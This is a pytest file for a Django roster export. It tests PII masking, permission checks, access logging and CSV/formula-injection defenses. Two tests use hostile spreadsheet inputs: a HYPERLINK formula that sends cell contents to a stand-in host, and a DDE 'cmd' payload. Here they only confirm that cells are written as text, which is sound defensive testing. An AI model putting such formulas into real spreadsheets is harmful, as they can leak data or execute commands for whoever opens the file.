"""Roster export: masked unless the viewer has the PII right and asks; full exports logged;
a full export re-imports with no change."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from lixing.accounts.models import AccessLog
from lixing.imports.services import import_run
from lixing.orgs.models import Member
from lixing.orgs.roster import COLUMNS
from lixing.orgs.validators import mask_id_number, mask_phone

pytestmark = pytest.mark.django_db


def cells(body: bytes) -> list[list[Any]]:
    return CalamineWorkbook.from_object(io.BytesIO(body)).get_sheet_by_index(0).to_python()


def test_the_export_is_masked_and_has_the_import_columns(district: Any) -> None:
    r = district.client(district.secretary).get(reverse("orgs:export", args=[district.branch_a1.pk]))
    rows = cells(r.content)
    assert rows[0] == [c.header for c in COLUMNS]
    m = district.a1_members[2]
    row = next(row for row in rows if row[0] == m.name)
    assert row[2] == mask_id_number(m.id_number) and row[10] == mask_phone(m.phone)
    assert len(rows) == 1 + 5 and not AccessLog.objects.exists()


def test_a_full_export_needs_the_right_and_is_logged_per_member(district: Any) -> None:
    url = reverse("orgs:export", args=[district.committee_a.pk]) + "?full=1"
    assert (
        district.client(district.unit_admin).get(reverse("orgs:export", args=[district.branch_b1.pk])).status_code
        == 404
    )
    assert (
        district.client(district.secretary)
        .get(reverse("orgs:export", args=[district.branch_a1.pk]) + "?full=1")
        .status_code
        == 403
    )
    r = district.client(district.unit_admin).get(url)
    rows = cells(r.content)
    m = district.a1_members[2]
    assert next(row for row in rows if row[0] == m.name)[2] == m.id_number
    assert AccessLog.objects.filter(context="export", actor=district.unit_admin).count() == 7  # A1: 5, A2: 2
    assert set(AccessLog.objects.values_list("org_path", flat=True)) <= {
        district.branch_a1.path,
        district.branch_a2.path,
    }


def test_a_member_of_another_branch_cannot_export_branch_a(district: Any) -> None:
    assert (
        district.client(district.other_member).get(reverse("orgs:export", args=[district.branch_a1.pk])).status_code
        == 404
    )


def test_a_full_export_reimports_with_no_change(district: Any, tmp_path: Any) -> None:
    out = tmp_path / "roster.xlsx"
    call_command("export_members", "--org", str(district.root.pk), "--out", str(out), "--full")
    outcome = import_run(actor=district.district_admin, kind="members", org=district.root, source=str(out))
    assert (outcome.create, outcome.update, outcome.skip, outcome.errors) == (0, 0, 10, [])
    assert AccessLog.objects.filter(context="command").count() == 10


def test_the_export_command_as_a_user_is_scoped_and_masked(district: Any, tmp_path: Any) -> None:
    out = tmp_path / "a.xlsx"
    call_command("export_members", "--org", str(district.branch_a1.pk), "--out", str(out), "--user", "secretary")
    assert mask_id_number(district.a1_members[0].id_number) in str(cells(out.read_bytes()))
    with pytest.raises(CommandError):
        call_command("export_members", "--org", str(district.branch_a1.pk), "--out", str(out), "--user", "secretary",
                     "--full")  # fmt: skip
    with pytest.raises(CommandError):
        call_command("export_members", "--org", str(district.branch_a1.pk), "--out", str(out),
                     "--user", "other_member")  # fmt: skip


def test_a_masked_export_has_no_birth_date_beside_the_masked_id_and_no_full_address(district: Any) -> None:
    m = district.a1_members[2]
    Member.objects.filter(pk=m.pk).update(address="浙江省宁波市北仑区大榭街道海光路8号")
    r = district.client(district.secretary).get(reverse("orgs:export", args=[district.branch_a1.pk]))
    rows = cells(r.content)
    headers = rows[0]
    row = next(row for row in rows if row[0] == m.name)
    assert row[headers.index("公民身份号码")] == mask_id_number(m.id_number)
    assert row[headers.index("出生日期")] in ("", None)
    assert all(str(cell) not in (m.birth_date.isoformat(), f"{m.birth_date:%Y%m%d}") for cell in row)
    assert row[headers.index("家庭住址")] == "浙江省宁波市****"
    assert "海光路" not in str(rows) and not AccessLog.objects.exists()


def test_the_member_page_masks_the_birth_date_and_address_until_revealed(district: Any) -> None:
    m = district.a1_members[2]
    Member.objects.filter(pk=m.pk).update(address="浙江省宁波市北仑区大榭街道海光路8号")
    page = district.client(district.secretary).get(reverse("orgs:member", args=[m.pk])).content.decode()
    assert mask_id_number(m.id_number) in page
    assert m.birth_date.isoformat() not in page and "海光路" not in page and "浙江省宁波市****" in page
    revealed = district.client(district.unit_admin).post(reverse("orgs:member_reveal", args=[m.pk])).content.decode()
    assert m.birth_date.isoformat() in revealed and "海光路8号" in revealed


def test_an_ordinary_member_may_not_export_the_roster_of_their_own_branch(district: Any) -> None:
    r = district.client(district.member).get(reverse("orgs:export", args=[district.branch_a1.pk]))
    assert r.status_code == 403
    with pytest.raises(CommandError):
        call_command("export_members", "--org", str(district.branch_a1.pk), "--out", "/dev/null", "--user", "member")


def test_a_position_that_looks_like_a_formula_is_exported_as_text(district: Any) -> None:
    m = district.a1_members[2]
    Member.objects.filter(pk=m.pk).update(position="=1+1", job_post='=HYPERLINK("http://x.example/"&A1,"点击")',
                                          work_unit="@SUM(A1)")  # fmt: skip
    body = district.client(district.secretary).get(reverse("orgs:export", args=[district.branch_a1.pk])).content
    ws = load_workbook(io.BytesIO(body)).active
    assert ws is not None
    found = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert found["=1+1"] == "s" and found["@SUM(A1)"] == "s"
    assert found['=HYPERLINK("http://x.example/"&A1,"点击")'] == "s"
    assert not any(t == "f" for t in found.values()), "no cell is a formula"


def test_the_import_template_writes_no_formula_either(district: Any) -> None:
    from lixing.imports.sheets import Column, template_bytes

    body = template_bytes("t", [Column("=A1", "a", hint="-1")], [["+cmd|' /C calc'!A0"], ["\t=1+1"]])
    ws = load_workbook(io.BytesIO(body)).active
    assert ws is not None
    assert [(c.value, c.data_type) for row in ws.iter_rows() for c in row] == [
        ("=A1", "s"), ("-1", "s"), ("+cmd|' /C calc'!A0", "s"), ("\t=1+1", "s")]  # fmt: skip


def test_the_export_link_is_offered_only_to_those_who_may_export(district: Any) -> None:
    url = reverse("orgs:detail", args=[district.branch_a1.pk])
    assert 'id="export-roster"' in district.client(district.secretary).get(url).content.decode()
    assert 'id="export-roster"' not in district.client(district.member).get(url).content.decode()
